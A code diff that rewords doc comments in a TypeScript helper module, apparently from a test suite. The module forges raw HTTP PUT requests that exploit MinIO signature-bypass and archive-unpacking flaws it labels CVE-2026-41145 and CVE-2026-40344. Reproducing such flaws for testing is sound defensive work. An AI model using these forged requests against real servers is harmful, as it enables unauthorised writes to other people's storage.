@@ -2,10 +2,10 @@ import { crc32 } from 'node:zlib';
 import { encodeCrc32 } from '../../../src/session/crc32.ts';
 import { type RawAnswer, RawConnection } from '../network/raw-connection.ts';
 
-/** The word that keeps MinIO from checking a signature (CVE-2026-41145). */
+/** The header value that keeps MinIO from checking a signature (CVE-2026-41145). */
 export const FORGING_WORD = 'STREAMING-UNSIGNED-PAYLOAD-TRAILER';
 
-/** A request as it is written, down to its line ends. */
+/** The head of a request exactly as it is sent, including its line ends. */
 export interface RawHead {
   readonly method: string;
   readonly target: string;
@@ -14,16 +14,16 @@ export interface RawHead {
   readonly lineEnd: string;
 }
 
-/** Changes one request into another. `endpoint` is where it goes. */
+/** Changes the head of a request. `endpoint` is where the request is sent. */
 export type Change = (head: RawHead, endpoint: string) => RawHead;
 
-/** `body` as a forged PUT declares it: aws-chunked, with its CRC32 as the trailer. */
+/** Encodes `body` as a forged PUT declares it: aws-chunked, with its CRC32 as the trailer. */
 export function inChunks(body: Buffer): string {
   const checksum = encodeCrc32(crc32(body));
   return `${body.length.toString(16)}\r\n${body.toString('latin1')}\r\n0\r\nx-amz-checksum-crc32:${checksum}\r\n\r\n`;
 }
 
-/** A PUT in the name of the access key id that the URL shows, without the header that opens the hole. */
+/** Returns the head of a PUT in the name of the URL's access key id, without the header that exploits the hole. */
 export function aForgedHead(url: URL, body: Buffer): RawHead {
   return aHead(url, [
     'Content-Encoding: aws-chunked',
@@ -33,7 +33,7 @@ export function aForgedHead(url: URL, body: Buffer): RawHead {
   ]);
 }
 
-/** A PUT of an archive, which MinIO unpacks from the body as it is (CVE-2026-40344), without the header that says so. */
+/** Returns the head of a PUT of an archive, which MinIO unpacks from the plain body (CVE-2026-40344), without the header that asks for it. */
 export function aForgedArchiveHead(url: URL, archive: string): RawHead {
   return aHead(url, [`x-amz-content-sha256: ${FORGING_WORD}`, `Content-Length: ${archive.length}`]);
 }
@@ -51,7 +51,7 @@ export function withQuery(more: string): Change {
   return (head) => ({ ...head, target: `${head.target}&${more}` });
 }
 
-/** Each character as its percent escape. */
+/** Escapes every character with a percent sign. */
 export function percentEncoded(text: string): string {
   return [...text].map((char) => `%${char.charCodeAt(0).toString(16)}`).join('');
 }
@@ -65,7 +65,7 @@ export interface ForgedAnswer extends RawAnswer {
   readonly code?: string | undefined;
 }
 
-/** Sends it over a connection of its own, which the head must ask to be closed. */
+/** Sends the request over a new connection, which the head must ask the server to close. */
 export async function sendForged(endpoint: string, head: RawHead, body: string): Promise<ForgedAnswer> {
   const connection = await RawConnection.to(endpoint);
   connection.send(`${textOf(head, new URL(endpoint).host)}${body}`);
